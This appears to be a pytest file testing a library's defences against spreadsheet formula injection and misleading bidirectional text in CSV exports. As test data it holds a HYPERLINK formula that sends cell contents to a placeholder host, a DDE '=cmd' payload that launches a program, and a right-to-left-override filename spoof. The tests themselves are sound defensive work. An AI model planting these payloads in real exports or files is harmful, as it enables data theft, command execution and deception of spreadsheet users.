"""Exports that a spreadsheet can't run, text that displays what it is (issue 15, items 7 and 8)."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from visframe.utils.csv_safe import neutralise_cell, to_csv_safe, unneutralise, visible_text

PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_neutralised_and_round_trip(payload):
    assert neutralise_cell(payload) == "'" + payload
    assert unneutralise(neutralise_cell(payload)) == payload


def test_to_csv_safe_writes_text_cells_as_text_and_leaves_numbers_and_safe_text(tmp_path):
    frame = pd.DataFrame(
        {
            "caption": pd.array(PAYLOADS, dtype="string"),
            "account": ["=cmd|' /C calc'!A0", "ok", None, "a,b", 'say "hi"', "x"],
            "likes": [-5, 3, 0, 1, 2, 4],
            "score": [-0.5, np.nan, 1.0, 2.0, 3.0, 4.0],
            "category": pd.Categorical(["-a", "b", "-a", "b", "b", "b"]),
        }
    )
    path = tmp_path / "out.csv"
    to_csv_safe(frame, path)
    rows = read_back(path.read_bytes().decode("utf-8"))  # no newline translation: a bare CR stays
    assert len(rows) == 7  # the CR inside a caption did not split its row
    assert rows[0] == ["caption", "account", "likes", "score", "category"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in body] == ["'=cmd|' /C calc'!A0", "ok", "", "a,b", 'say "hi"', "x"]
    assert [r[2] for r in body] == ["-5", "3", "0", "1", "2", "4"]  # numbers stay numbers
    assert body[0][3] == "-0.5" and body[0][4] == "'-a" and body[1][4] == "b"
    for row in body:  # no cell a spreadsheet would evaluate
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
    assert frame["caption"].iloc[0].startswith("=")  # the frame itself is not changed
    assert read_back(to_csv_safe(frame.head(1)))[1][0].startswith("'=HYPERLINK")


def test_headers_are_neutralised_too():
    assert read_back(to_csv_safe(pd.DataFrame({"=evil": [1]})))[0] == ["'=evil"]


def test_visible_text_strips_nul_and_unpaired_bidi_controls():
    rlo, pdf, lri, pdi = "\u202e", "\u202c", "\u2066", "\u2069"
    assert visible_text("cap\x00tion") == "caption"
    assert visible_text(f"photo{rlo}gpj.exe") == "photogpj.exe"  # the override never ends: removed
    assert visible_text(f"a{rlo}bc{pdf}d") == f"a{rlo}bc{pdf}d"  # closed within the line: kept
    assert visible_text(f"a{pdf}b{pdi}c") == "abc"  # closers without an opener
    assert visible_text(f"{lri}x{rlo}y{pdi}z") == f"{lri}xy{pdi}z"  # PDI closes the isolate only
    assert visible_text(f"a{rlo}b\nc{pdf}") == "ab\nc"  # a line end closes everything
    assert visible_text(None) == "" and visible_text(5) == "5" and visible_text("hola ñ") == "hola ñ"
